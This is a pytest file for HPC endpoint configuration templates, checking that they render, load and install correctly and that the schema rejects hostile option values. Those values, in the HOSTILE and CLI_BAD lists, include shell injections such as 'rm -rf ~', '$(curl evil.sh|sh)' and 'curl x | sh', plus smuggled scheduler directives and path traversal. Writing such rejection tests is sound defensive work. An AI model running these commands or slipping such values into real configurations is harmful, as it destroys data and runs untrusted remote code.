"""Endpoint templates render, validate and load with the endpoint's own code."""

from __future__ import annotations

import json
import pathlib
import shutil
import subprocess
import sys

import pytest
import yaml
from parsl.launchers import SimpleLauncher
from parsl.providers import PBSProProvider
from parsl.providers import SlurmProvider

from actors.common.errors import ConfigurationError
from actors.site.endpoint import endpoint_sites
from actors.site.endpoint import install
from actors.site.endpoint import load_rendered
from actors.site.endpoint import load_template
from actors.site.endpoint import missing_interface
from actors.site.endpoint import parse_assignments
from actors.site.endpoint import render_template
from actors.site.endpoint import validate_options
from actors.site.profile import load_site
from tests.conftest import REPO

pytestmark = pytest.mark.timeout(60)

MACHINES = ('aurora', 'polaris', 'perlmutter', 'frontier')
EXPECTED = {
    'aurora': (PBSProProvider, 'bond0'),
    'polaris': (PBSProProvider, 'bond0'),
    'pbs': (PBSProProvider, 'eth0'),
    'perlmutter': (SlurmProvider, 'hsn0'),
    'frontier': (SlurmProvider, 'hsn0'),
    'slurm': (SlurmProvider, 'eth0'),
}
VALID = {
    'account': 'MyProj_1',
    'nodes_per_block': 4,
    'directors': 3,
    'walltime': '00:45:00',
    'modules': ['python/3.11'],
    'venv': '/lus/proj/user/.venv',
}


def test_every_machine_has_a_profile_and_a_template():
    assert set(MACHINES) <= set(endpoint_sites())
    assert set(endpoint_sites()) == set(EXPECTED)
    for site, (provider, _) in EXPECTED.items():
        # Each template belongs to a site profile of the same scheduler.
        profile = load_site(site)
        assert profile.scheduler == ('pbs' if provider is PBSProProvider else 'slurm')
        schema = load_template(site).schema()
        assert schema['additionalProperties'] is False
        assert 'account' in schema['required']
        for name, prop in schema['properties'].items():
            if prop.get('type') == 'integer':
                assert 'minimum' in prop and 'maximum' in prop, name
            if prop.get('type') == 'string':
                assert 'pattern' in prop or 'enum' in prop, name


def _render(site: str, **extra) -> str:
    return render_template(load_template(site), {**VALID, **extra})


@pytest.mark.parametrize('site', sorted(EXPECTED))
def test_template_renders_and_loads_with_the_endpoint_loader(site):
    rendered = _render(site)
    provider_type, interface = EXPECTED[site]
    data = yaml.safe_load(rendered)
    assert data['engine']['address'] == {'type': 'address_by_interface', 'ifname': interface}
    absent = missing_interface(rendered)
    config = load_rendered(rendered, address='127.0.0.1' if absent else None)
    engine = config.engine
    assert type(engine).__name__ == 'GlobusComputeEngine'
    assert engine.executor.max_workers_per_node == 3
    provider = engine.executor.provider
    assert isinstance(provider, provider_type)
    assert isinstance(provider.launcher, SimpleLauncher)
    assert provider.nodes_per_block == 4
    assert provider.account == 'MyProj_1'
    assert provider.walltime == '00:45:00'
    assert (provider.min_blocks, provider.max_blocks) == (0, 1)
    assert 'module load "python/3.11"' in provider.worker_init
    assert 'source "/lus/proj/user/.venv"/bin/activate' in provider.worker_init


@pytest.mark.parametrize('site', sorted(EXPECTED))
def test_defaults_fill_everything_but_the_account(site):
    config = load_rendered(
        render_template(load_template(site), {'account': 'p1'}), address='127.0.0.1'
    )
    provider = config.engine.executor.provider
    assert provider.nodes_per_block == 2
    assert isinstance(provider.walltime, str)  # quoted: not YAML's sexagesimal int


def _unshare_works() -> bool:
    if shutil.which('unshare') is None or shutil.which('ip') is None:
        return False
    probe = subprocess.run(
        ['unshare', '-rn', 'ip', 'link', 'add', 'probe0', 'type', 'veth', 'peer', 'name', 'p1'],
        capture_output=True,
        check=False,
        timeout=10,
    )
    return probe.returncode == 0


LOADER = """
import json, sys
from globus_compute_endpoint.endpoint.config.utils import load_config_yaml
config = load_config_yaml(open(sys.argv[1]).read())
executor = config.engine.executor
print(json.dumps({
    'engine': type(config.engine).__name__,
    'provider': type(executor.provider).__name__,
    'launcher': type(executor.provider.launcher).__name__,
    'address': executor.address,
}))
"""


@pytest.mark.skipif(
    not _unshare_works(),
    reason='needs `unshare -rn` and veth links to give this host the site interface',
)
@pytest.mark.parametrize('site', sorted(EXPECTED))
def test_unmodified_render_loads_on_a_host_with_the_interface(site, tmp_path):
    """The endpoint resolves address_by_interface itself: give it that interface."""
    rendered = _render(site)
    path = tmp_path / 'config.yaml'
    path.write_text(rendered)
    _, interface = EXPECTED[site]
    script = (
        f'ip link add {interface} type veth peer name peer0 && '
        f'ip addr add 10.99.0.1/24 dev {interface} && '
        f'exec "$0" -c "$1" "$2"'
    )
    result = subprocess.run(
        ['unshare', '-rn', 'sh', '-c', script, sys.executable, LOADER, str(path)],
        capture_output=True,
        text=True,
        check=False,
        timeout=50,
    )
    assert result.returncode == 0, result.stderr
    loaded = json.loads(result.stdout.strip().splitlines()[-1])
    assert loaded['engine'] == 'GlobusComputeEngine'
    assert loaded['provider'] == EXPECTED[site][0].__name__
    assert loaded['launcher'] == 'SimpleLauncher'
    assert loaded['address'] == '10.99.0.1'


HOSTILE = [
    ({'account': 'MyProj; rm -rf ~'}, "account: 'MyProj; rm -rf ~' does not match"),
    ({'account': '$(curl evil.sh|sh)'}, "account: '$(curl evil.sh|sh)' does not match"),
    ({'account': '`id`'}, "account: '`id`' does not match"),
    ({'account': 'ok\nengine: {type: ThreadPoolEngine}'}, 'account: '),
    ({'account': 123}, "account: 123 is not of type 'string'"),
    ({'nodes_per_block': '4; rm -rf ~'}, "nodes_per_block: '4; rm -rf ~' is not of type 'integer'"),
    ({'nodes_per_block': 0}, 'nodes_per_block: 0 is less than the minimum of 1'),
    ({'nodes_per_block': 10**6}, 'nodes_per_block: 1000000 is greater than the maximum'),
    ({'directors': True}, "directors: True is not of type 'integer'"),
    ({'queue': 'debug && reboot'}, "queue: 'debug && reboot' is not one of"),
    ({'walltime': '01:00:00\n#PBS -l select=999'}, 'walltime: '),
    ({'filesystems': 'home:flare -W depend=x'}, 'filesystems: '),
    ({'modules': ['frameworks; curl x | sh']}, 'modules.0: '),
    ({'modules': 'frameworks'}, "modules: 'frameworks' is not of type 'array'"),
    ({'venv': '/home/u/../../etc'}, 'venv: '),
    ({'venv': 'relative/venv'}, "venv: 'relative/venv' does not match"),
    ({'venv': '/opt/$(id)'}, "venv: '/opt/$(id)' does not match"),
    ({'evil': 'x'}, "Additional properties are not allowed ('evil' was unexpected)"),
    ({'worker_init': 'curl x | sh'}, "('worker_init' was unexpected)"),
    ({'_GC': {'env': {}}}, "'_GC' is a reserved word"),
    ({'parent_config': 'x'}, "'parent_config' is a reserved word"),
    ({'mapped_identity': 'root'}, "'mapped_identity' is a reserved word"),
]


@pytest.mark.parametrize(('values', 'message'), HOSTILE, ids=[repr(v) for v, _ in HOSTILE])
def test_hostile_values_are_refused_by_the_schema(values, message):
    template = load_template('aurora')
    with pytest.raises(ConfigurationError, match=r'^aurora endpoint option') as info:
        render_template(template, {'account': 'MyProj', **values})
    assert message in str(info.value)
    reserved = next(iter(values)) in ('_GC', 'parent_config', 'mapped_identity')
    if not reserved:
        # The client-side check (before submitting) says the same.
        with pytest.raises(ConfigurationError) as client_side:
            validate_options(template, {'account': 'MyProj', **values})
        assert message in str(client_side.value)


@pytest.mark.parametrize('site', sorted(EXPECTED))
def test_every_site_refuses_injection_in_every_string(site):
    template = load_template(site)
    strings = [k for k, p in template.schema()['properties'].items() if p.get('type') == 'string']
    assert 'account' in strings
    for key in strings:
        for bad in ('a;b', '$(id)', '`id`', 'a\nb', 'a b', '../x'):
            with pytest.raises(ConfigurationError, match=f'{key}: '):
                render_template(template, {'account': 'ok', key: bad})


def test_set_values_take_the_schema_types():
    schema = load_template('aurora').schema()
    options = parse_assignments(
        ['account=P', 'nodes_per_block=8', 'modules=a,b/1', 'queue=prod', 'directors=x'],
        schema,
    )
    assert options == {
        'account': 'P',
        'nodes_per_block': 8,
        'modules': ['a', 'b/1'],
        'queue': 'prod',
        'directors': 'x',  # left as text: the schema names the problem
    }
    with pytest.raises(ConfigurationError, match="--set 'account' is not key=value"):
        parse_assignments(['account'], schema)


def test_install_writes_template_and_schema_and_keeps_the_original(tmp_path):
    endpoint_dir = tmp_path / '.globus_compute' / 'mep'
    endpoint_dir.mkdir(parents=True)
    (endpoint_dir / 'user_config_template.yaml.j2').write_text('# default template\n')
    written = install(load_template('polaris'), endpoint_dir)
    assert [p.name for p in written] == ['user_config_template.yaml.j2', 'user_config_schema.json']
    template = load_template('polaris')
    assert written[0].read_text() == template.text()
    assert json.loads(written[1].read_text()) == template.schema()
    assert (
        endpoint_dir / 'user_config_template.yaml.j2.orig'
    ).read_text() == '# default template\n'


def _cli(*args: str, cwd: pathlib.Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, str(REPO / 'launch.py'), 'endpoint-config', *args],
        cwd=cwd,
        capture_output=True,
        text=True,
        stdin=subprocess.DEVNULL,
        timeout=50,
        check=False,
    )


def test_cli_prints_the_validated_yaml(tmp_path):
    result = _cli(
        '--site', 'aurora', '--set', 'account=MyProj', '--set', 'nodes_per_block=4', cwd=tmp_path
    )
    assert result.returncode == 0, result.stderr
    data = yaml.safe_load(result.stdout)
    assert data['engine']['provider']['account'] == 'MyProj'
    assert data['engine']['provider']['nodes_per_block'] == 4
    assert data['engine']['provider']['type'] == 'PBSProProvider'


CLI_BAD = [
    (
        ['--site', 'aurora', '--set', 'account=MyProj', '--set', 'nodes_per_block=4; rm -rf ~'],
        "nodes_per_block: '4; rm -rf ~' is not of type 'integer'",
    ),
    (['--site', 'polaris', '--set', 'account=$(whoami)'], "account: '$(whoami)' does not match"),
    (
        ['--site', 'frontier', '--set', 'account=abc123', '--set', 'partition=gpu'],
        "partition: 'gpu' is not one of ['batch', 'extended']",
    ),
    (['--site', 'perlmutter'], "'account' is a required property"),
    (['--site', 'perlmutter', '--set', '_GC=1'], "'_GC' is a reserved word"),
    (['--site', 'local'], "site 'local' has no Globus Compute endpoint template"),
    (['--site', 'aurora', '--set', 'account'], "--set 'account' is not key=value"),
]


@pytest.mark.parametrize(('args', 'message'), CLI_BAD, ids=[' '.join(a) for a, _ in CLI_BAD])
def test_cli_bad_values_exit_2_with_the_schema_message(args, message, tmp_path):
    result = _cli(*args, cwd=tmp_path)
    assert result.returncode == 2, result.stderr
    lines = result.stderr.strip().splitlines()
    assert len(lines) == 1, result.stderr
    assert message in lines[0]
    assert result.stdout == ''


def test_cli_install(tmp_path):
    result = _cli('--site', 'perlmutter', '--install', str(tmp_path / 'mep'), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert (tmp_path / 'mep' / 'user_config_template.yaml.j2').is_file()
    assert (tmp_path / 'mep' / 'user_config_schema.json').is_file()
